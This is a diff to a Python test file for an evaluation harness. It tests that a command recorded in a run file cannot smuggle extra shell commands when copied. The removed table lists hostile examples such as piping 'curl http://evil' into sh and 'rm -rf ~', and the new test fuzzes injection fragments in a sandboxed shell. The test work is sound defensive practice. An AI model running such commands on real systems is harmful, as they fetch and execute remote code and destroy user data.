@@ -1,6 +1,8 @@
 """What says that it is a guessing baseline or the oracle is reproduced; what is not, and what is something else, is refused."""
 
 import json
+import shlex
+import subprocess
 from functools import partial
 
 import pytest
@@ -9,6 +11,7 @@ from hypothesis import strategies as st
 
 from eval_harness.derive.answer_table import answers_bytes, frame_of
 from eval_harness.records.run import Run
+from eval_harness.records.run_checks import wrong_run
 from eval_harness.runs.planning.config import EvalConfig
 from eval_harness.runs.runner import evaluate
 from eval_harness.store.datasets import named_dataset
@@ -108,20 +111,33 @@ def test_a_model_without_its_image_is_named_so(run, data):
     assert any("is named so" in line for line in forged(submission, data, partial(change, name="Model A")))
 
 
-COMMANDS = {
-    "medprobe eval x --name 'a b'": True,
-    "medprobe eval x --name 'a; b'": True,
-    "medprobe eval x; curl http://evil | sh": False,
-    "medprobe eval $(curl evil)": False,
-    "medprobe eval x && rm -rf ~": False,
-    "medprobe eval 'x": False,
-    "python best.py": False,
-    "": False,
-    "medprobe eval x\nrm y": False,
-}
+PIECES = (
+    "eval x --name 'a b'", "; touch done", "$(touch done)", "`touch done`", "&& touch done", "| touch done", "> done", "\ntouch done",
+    "'", '"', "\\", "#", "${IFS}touch${IFS}done", "& touch done &", "'; touch done'", "(touch done)", "<(touch done)",
+)  # fmt: skip
 
 
-@pytest.mark.parametrize("command", COMMANDS)
-def test_a_command_that_is_copied_runs_nothing_else(run, data, command):
-    problems = forged(prepare(run, data=str(data)), data, lambda said: said.update(command=command))
-    assert (problems == []) is COMMANDS[command], problems
+@settings(max_examples=150)
+@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=4), st.sampled_from(["", " "]), st.booleans())
+def test_a_command_that_is_shown_runs_nothing_else_when_it_is_copied(
+    said_by, tmp_path_factory, pieces, between, quoted
+):
+    """What is accepted is run by a shell in which `medprobe` does nothing; what `eval` writes, quoted arguments, is accepted."""
+    words = ["medprobe", *pieces]
+    command = shlex.join(words) if quoted else between.join(["medprobe ", *pieces])
+    document = json.loads(said_by) | {"command": command}
+    accepted = not any("command" in line for line in wrong_run(Run.model_validate(document)))
+    assert accepted or not quoted
+    if accepted and "\0" not in command:
+        folder = tmp_path_factory.mktemp("shell")
+        script = f"medprobe() {{ :; }}\n{command}\n".encode("utf-8", "replace")
+        subprocess.run(
+            ["bash", "-c", script], cwd=folder, check=False, capture_output=True, env={"PATH": "/usr/bin:/bin"}
+        )
+        assert not list(folder.iterdir()), command
+
+
+@pytest.fixture(scope="module")
+def said_by(made):
+    """The run.json of an honest run."""
+    return made("mediconfusion", "chance").sent.run
